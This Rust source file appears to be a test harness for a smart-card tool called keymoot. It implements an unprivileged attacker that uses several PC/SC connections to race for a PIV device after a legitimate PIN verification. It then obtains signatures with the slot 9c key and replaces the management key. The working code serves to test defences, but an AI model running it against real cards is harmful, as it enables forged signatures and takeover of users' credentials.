//! Another program beside keymoot, of any user, which knows no PIN and no key: it waits at the
//! device for the moment in which the PIN or the management key has opened it. It asks for a
//! signature over its own text, and puts its own management key in.

use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::thread::{self, JoinHandle};
use std::time::Duration;

use pcsc::{Card, Context, Disposition, Protocols, Scope, ShareMode};

/// Header and template of GENERAL AUTHENTICATE with the P-256 key in slot 9c (NIST SP 800-73-4
/// part 2, section 3.2.4); 32 bytes follow, which are no digest that anybody has read.
const SIGN: [u8; 11] = [
    0x00, 0x87, 0x11, 0x9c, 0x26, 0x7c, 0x24, 0x82, 0x00, 0x81, 0x20,
];

/// SET MANAGEMENT KEY with AES-192 (Yubico, "PIV extensions"); 24 bytes follow.
const SET_MANAGEMENT_KEY: [u8; 8] = [0x00, 0xff, 0xff, 0xff, 0x1b, 0x0a, 0x9b, 0x18];

/// How the attacker stays at the device.
#[derive(Clone, Copy, Debug)]
pub enum Manner {
    /// Connects once and never lets go.
    Clinging,
    /// Connects again for each try, so that it is there in any gap.
    Dipping,
}

/// How many connections it has: libpcsclite lets a client that met somebody's transaction sleep for
/// 100 ms, in which the others try.
const CONNECTIONS: usize = 8;

/// The attacker at work, on threads and connections of its own.
pub struct Attacker {
    stop: Arc<AtomicBool>,
    seen: Arc<Loot>,
    threads: Vec<JoinHandle<()>>,
}

/// Its results.
#[derive(Default, Debug)]
pub struct Loot {
    /// Commands that reached the device.
    pub tries: AtomicUsize,
    /// Connections that were refused because somebody else had the device alone.
    pub refused: AtomicUsize,
    /// Signatures over the attacker's text.
    pub signatures: AtomicUsize,
    /// Management keys that it put in.
    pub management_keys: AtomicUsize,
}

impl Attacker {
    /// Starts it.
    pub fn start(manner: Manner) -> Self {
        let (stop, seen) = (Arc::<AtomicBool>::default(), Arc::<Loot>::default());
        let attack = || {
            let (stop, seen) = (Arc::clone(&stop), Arc::clone(&seen));
            thread::spawn(move || {
                while !stop.load(Ordering::SeqCst) {
                    if let Some(card) = connect(&seen) {
                        steal(card, manner, &stop, &seen);
                    }
                    thread::sleep(Duration::from_millis(1));
                }
            })
        };
        let threads = (0..CONNECTIONS).map(|_| attack()).collect();
        Self {
            stop,
            seen,
            threads,
        }
    }

    /// Waits until it has reached the device once more: pcscd keeps a client whose device was
    /// reset waiting for up to 100 ms.
    pub fn await_a_try(&self) {
        let tries = || self.seen.tries.load(Ordering::SeqCst);
        let before = tries();
        while tries() == before {
            thread::yield_now();
        }
    }

    /// Ends it; returns its results.
    pub fn stop(self) -> Arc<Loot> {
        self.stop.store(true, Ordering::SeqCst);
        for thread in self.threads {
            thread.join().expect("the attacker ends in order");
        }
        self.seen
    }
}

fn connect(seen: &Loot) -> Option<Card> {
    let context = Context::establish(Scope::User).ok()?;
    let readers = context.list_readers_owned().ok()?;
    match context.connect(readers.first()?, ShareMode::Shared, Protocols::T1) {
        Ok(card) => Some(card),
        Err(error) => {
            if error == pcsc::Error::SharingViolation {
                seen.refused.fetch_add(1, Ordering::SeqCst);
            }
            None
        }
    }
}

fn steal(mut card: Card, manner: Manner, stop: &AtomicBool, seen: &Loot) {
    let commands = [
        ([&SIGN[..], &[0xaa; 32]].concat(), &seen.signatures),
        (
            [&SET_MANAGEMENT_KEY[..], &[0xaa; 24]].concat(),
            &seen.management_keys,
        ),
    ];
    let mut room = [0; pcsc::MAX_BUFFER_SIZE];
    for (n, (command, won)) in commands.iter().cycle().enumerate() {
        if stop.load(Ordering::SeqCst) {
            break;
        }
        match card.transmit(command, &mut room) {
            Ok(answer) => {
                seen.tries.fetch_add(1, Ordering::SeqCst);
                if answer.ends_with(&[0x90, 0x00]) {
                    won.fetch_add(1, Ordering::SeqCst);
                }
            }
            // Another client's transaction: try again, as soon as it is over.
            Err(pcsc::Error::SharingViolation) => {}
            Err(pcsc::Error::ResetCard) => {
                let noted =
                    card.reconnect(ShareMode::Shared, Protocols::T1, Disposition::LeaveCard);
                if noted.is_err() {
                    return;
                }
            }
            Err(_) => return,
        }
        if matches!(manner, Manner::Dipping) && n % 2 == 1 {
            // The selected application and a verified PIN stay as they are: the client must not
            // notice.
            let _ = card.disconnect(Disposition::LeaveCard);
            return;
        }
        thread::sleep(Duration::from_micros(500));
    }
    let _ = card.disconnect(Disposition::LeaveCard);
}
